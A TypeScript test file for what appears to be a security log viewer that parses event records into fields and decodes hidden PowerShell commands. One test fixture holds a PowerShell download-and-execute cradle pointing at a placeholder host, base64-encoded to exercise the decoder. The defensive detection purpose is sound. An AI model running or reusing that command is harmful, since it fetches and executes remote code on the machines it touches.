import { expect, test } from "vitest";
import { hiddenCommand, rawFields, tells } from "./rawFields";

const bytes = (text: string) => new TextEncoder().encode(text).length;

/** A mark over the first place of `needle` in `raw`. */
function markOf(raw: string, needle: string, number: number) {
  const from = bytes(raw.slice(0, raw.indexOf(needle)));
  return { from, to: from + bytes(needle), number };
}

test("a record becomes rows, and a mark falls on the decoded characters", () => {
  const raw = JSON.stringify({
    Event: { Id: 1, Image: "C:\\Örtlich\\powershell.exe", Tags: ["a", "b"] },
    ok: true,
  });
  const rows = rawFields(raw, [markOf(raw, "\\\\powershell.exe", 2)]);
  expect(rows?.map((row) => [row.path, row.stretches.map((s) => s.text).join("|")])).toEqual([
    ["Event.Id", "1"],
    ["Event.Image", "C:\\Örtlich|\\powershell.exe"],
    ["Event.Tags", "a"],
    ["Event.Tags", "b"],
    ["ok", "true"],
  ]);
  expect(rows?.filter((row) => row.marked).map((row) => row.name)).toEqual(["Image"]);
  expect(rows?.[1]?.stretches[1]).toMatchObject({ numbers: [2], ends: [2] });
});

test("a name that many groups have is told with its group", () => {
  const raw = JSON.stringify({
    host: { name: "a" },
    email: { from: { address: "b" } },
    "@timestamp": "c",
    d: "e",
  });
  expect(rawFields(raw, [])?.map((row) => row.name)).toEqual([
    "host.name",
    "from.address",
    "@timestamp",
    "d",
  ]);
});

test("escapes of every kind keep their place", () => {
  const raw = '{"a": "x\\u00e9\\n\\"y", "b": -1.5e3}';
  const rows = rawFields(raw, [markOf(raw, '\\"y', 1)]);
  expect(rows?.[0]?.stretches).toEqual([
    { text: "xé\n", numbers: [], ends: [] },
    { text: '"y', numbers: [1], ends: [1] },
  ]);
  expect(rows?.[1]?.stretches[0]?.text).toBe("-1.5e3");
});

test.each([
  "<86>Mar 12 sshd",
  "[1,2]",
  '{"a":',
  '{"a":1} x',
  '{"a":"\\x"}',
  "{",
  `${'{"a":'.repeat(200)}1${"}".repeat(200)}`,
])("%s is shown as it is", (raw) => {
  expect(rawFields(raw, [])).toBeNull();
});

test("an encoded command is read", () => {
  const command = "IEX (New-Object Net.WebClient).DownloadString('https://a.example/a')";
  const utf16 = Array.from(command, (char) => `${char}\0`).join("");
  expect(hiddenCommand(`powershell.exe -nop -enc ${btoa(utf16)}`)).toBe(command);
  expect(hiddenCommand(`powershell.exe -nop -enc ${btoa("random bytes of text here")}`)).toBeNull();
  expect(hiddenCommand("powershell.exe -File a.ps1")).toBeNull();
});

test("what Windows writes around an event comes last", () => {
  for (const path of [
    "Event.System.EventID",
    "Event.System.Computer",
    "Event.EventData.CommandLine",
    "message",
  ]) {
    expect(tells(path)).toBe(true);
  }
  for (const path of ["Event.System.Channel", "Event.EventData.ProcessGuid", "Event.EventData.Company"]) {
    expect(tells(path)).toBe(false);
  }
});
